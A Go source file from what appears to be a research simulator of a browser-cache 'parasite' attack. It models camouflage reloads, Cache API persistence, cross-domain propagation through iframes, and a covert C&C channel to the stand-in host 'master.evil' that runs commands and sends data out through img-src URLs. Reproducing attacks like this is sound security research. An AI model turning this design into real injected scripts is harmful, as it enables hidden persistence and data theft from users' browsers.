// Package parasite implements the parasite script's behaviour (§VI): the
// camouflage reload of the original object (Fig. 2 steps 3–4), the
// Cache-API persistence anchor (Table III), propagation to other domains
// via iframes and shared files (§VI-B), and the victim-side half of the
// covert C&C channel (§VI-C, Fig. 4) including command execution and
// exfiltration through img-src requests (Table V: "send to server with
// 'src' property of an 'img' tag").
package parasite

import (
	"sort"
	"strconv"
	"strings"

	"masterparasite/internal/cnc"
	"masterparasite/internal/httpsim"
	"masterparasite/internal/script"
)

// Module is one attack capability the master can invoke remotely. params
// comes from the command; exfil ships findings back over the covert
// upstream channel.
type Module func(env script.Env, params string, exfil Exfil) error

// Exfil sends data to the master under a stream name.
type Exfil func(stream string, data []byte)

// Config is one parasite strain: everything a parasite instance needs is
// referenced through the marker payload (the config ID), exactly as real
// parasite code would carry its constants inline.
type Config struct {
	// ID is the marker payload identifying this strain.
	ID string
	// BotID identifies the victim to the master.
	BotID string
	// MasterHost is the C&C host ("master.evil").
	MasterHost string
	// PropagationTargets are the popular domains to cross-infect
	// (Fig. 2 step 5: "GET top1.com/persistent.js ..."). With none, the
	// parasite does not propagate.
	PropagationTargets []string
	// Modules maps command names to attack implementations (Table V).
	Modules map[string]Module
	// Anchor stores the infected object in the Cache API for persistence
	// beyond cache clearing (Table III). On by default via NewConfig.
	Anchor bool
}

// NewConfig builds a strain with persistence enabled and no
// propagation targets.
func NewConfig(id, botID, masterHost string) *Config {
	return &Config{
		ID: id, BotID: botID, MasterHost: masterHost,
		Modules: make(map[string]Module),
		Anchor:  true,
	}
}

// Registry tracks strains and victim-side infection state.
type Registry struct {
	configs map[string]*Config

	infectedOrigins map[string]map[string]bool // botID → origins
	lastSeenCmd     map[string]int             // botID → last executed command

	polls    int
	commands int
	anchors  int
	reloads  int
}

// NewRegistry returns an empty registry.
func NewRegistry() *Registry {
	return &Registry{
		configs:         make(map[string]*Config),
		infectedOrigins: make(map[string]map[string]bool),
		lastSeenCmd:     make(map[string]int),
	}
}

// Add registers a strain.
func (r *Registry) Add(cfg *Config) { r.configs[cfg.ID] = cfg }

// Config returns a strain by ID.
func (r *Registry) Config(id string) (*Config, bool) {
	c, ok := r.configs[id]
	return c, ok
}

// InfectedOrigins lists origins where the strain has executed for a
// bot, sorted so callers can log or compare the set deterministically.
func (r *Registry) InfectedOrigins(botID string) []string {
	var out []string
	for o := range r.infectedOrigins[botID] {
		out = append(out, o)
	}
	sort.Strings(out)
	return out
}

// Counters for the experiments.
func (r *Registry) Polls() int    { return r.polls }
func (r *Registry) Commands() int { return r.commands }
func (r *Registry) Anchors() int  { return r.anchors }
func (r *Registry) Reloads() int  { return r.reloads }

// RegisterBehaviors binds the "parasite" marker to its runtime behaviour
// in a browser's script runtime. As with the eviction script, this is the
// simulator's stand-in for "the browser executes delivered JavaScript".
func RegisterBehaviors(rt *script.Runtime, reg *Registry) {
	rt.Register("parasite", func(env script.Env, payload string) error {
		cfg, ok := reg.Config(payload)
		if !ok {
			// Unknown strain: the marker decodes to nothing; stay silent.
			return nil
		}
		return reg.run(env, cfg)
	})
}

// run is one parasite activation (every load of an infected object).
func (r *Registry) run(env script.Env, cfg *Config) error {
	origin := env.PageHost()
	if r.infectedOrigins[cfg.BotID] == nil {
		r.infectedOrigins[cfg.BotID] = make(map[string]bool)
	}
	firstRunHere := !r.infectedOrigins[cfg.BotID][origin]
	r.infectedOrigins[cfg.BotID][origin] = true

	scriptURL := env.ScriptURL()
	name := script.Name(scriptURL)
	sameOrigin := hostOf(name) == origin

	// 1. Camouflage: reload the original object with an ignored query
	// parameter so the page keeps its genuine functionality (Fig. 2
	// steps 3–4). The master recognises ?t= and lets it through.
	if sameOrigin && !strings.Contains(scriptURL, "#inline") {
		r.reloads++
		busted := name + "?t=" + strconv.FormatInt(env.Now().Microseconds(), 10)
		env.FetchNoCache(busted, func(*httpsim.Response, error) {})
	}

	// 2. Persistence anchor: store our own infected bytes in the Cache
	// API so cache clearing cannot remove us (Table III).
	if cfg.Anchor && sameOrigin && !strings.Contains(scriptURL, "#inline") {
		env.Fetch(scriptURL, func(resp *httpsim.Response, err error) {
			if err != nil || resp == nil || len(resp.Body) == 0 {
				return
			}
			if !script.Infected(resp.Body) {
				return
			}
			r.anchors++
			anchored := httpsim.NewResponse(200, resp.Body)
			anchored.Header.Set("Content-Type", "application/javascript")
			anchored.Header.Set("Cache-Control", "public, max-age=31536000, immutable")
			env.CacheAPIPut(name, anchored)
		})
	}

	// 3. Propagation between domains (§VI-B1): frame the target domains
	// so the browser loads — and the master infects — their objects.
	if firstRunHere {
		for _, target := range cfg.PropagationTargets {
			if target == origin || r.infectedOrigins[cfg.BotID][target] {
				continue
			}
			env.AddIframe(target + "/")
		}
	}

	// 4. C&C (Fig. 4): poll the master through a cross-origin image.
	r.poll(env, cfg)
	return nil
}

// poll fetches the meta image and, when a new command is pending, its
// image sequence; decoding yields the command which is then executed.
func (r *Registry) poll(env script.Env, cfg *Config) {
	r.polls++
	metaURL := cfg.MasterHost + "/meta/" + cfg.BotID + ".svg"
	env.AddImage(metaURL, func(w, h int, ok bool) {
		if !ok || w == 0 {
			return
		}
		cmdID, count := w, h
		if cmdID == r.lastSeenCmd[cfg.BotID] || count == 0 {
			return
		}
		dims := make([]cnc.Dim, count)
		fetched := 0
		failed := false
		for seq := 0; seq < count; seq++ {
			seq := seq
			imgURL := cfg.MasterHost + "/img/" + cfg.BotID + "/" +
				strconv.Itoa(cmdID) + "/" + strconv.Itoa(seq) + ".svg"
			env.AddImage(imgURL, func(w, h int, ok bool) {
				if !ok {
					failed = true
				} else {
					dims[seq] = cnc.Dim{W: cnc.Clamp(w), H: cnc.Clamp(h)}
				}
				fetched++
				if fetched == count && !failed {
					r.lastSeenCmd[cfg.BotID] = cmdID
					if data, err := cnc.DecodeDims(dims); err == nil {
						r.execute(env, cfg, data)
					}
				}
			})
		}
	})
}

// execute runs one decoded command of the form "module|params".
func (r *Registry) execute(env script.Env, cfg *Config, command []byte) {
	name, params, _ := strings.Cut(string(command), "|")
	mod, ok := cfg.Modules[name]
	if !ok {
		return
	}
	r.commands++
	exfil := r.exfil(env, cfg)
	// Module failures must not break the page: the parasite stays
	// stealthy (§VI-A "The original function is preserved").
	_ = mod(env, params, exfil)
}

// exfil returns the upstream sender: data encoded into img-src URLs.
func (r *Registry) exfil(env script.Env, cfg *Config) Exfil {
	return func(stream string, data []byte) {
		chunks := cnc.EncodeURLChunks(data, cnc.DefaultChunkSize)
		for seq, chunk := range chunks {
			env.AddImage(cfg.MasterHost+"/up/"+cfg.BotID+"/"+stream+"/"+strconv.Itoa(seq)+"/"+chunk, nil)
		}
		env.AddImage(cfg.MasterHost+"/up/"+cfg.BotID+"/"+stream+"/fin", nil)
	}
}

func hostOf(url string) string {
	if i := strings.IndexByte(url, '/'); i >= 0 {
		return url[:i]
	}
	return url
}
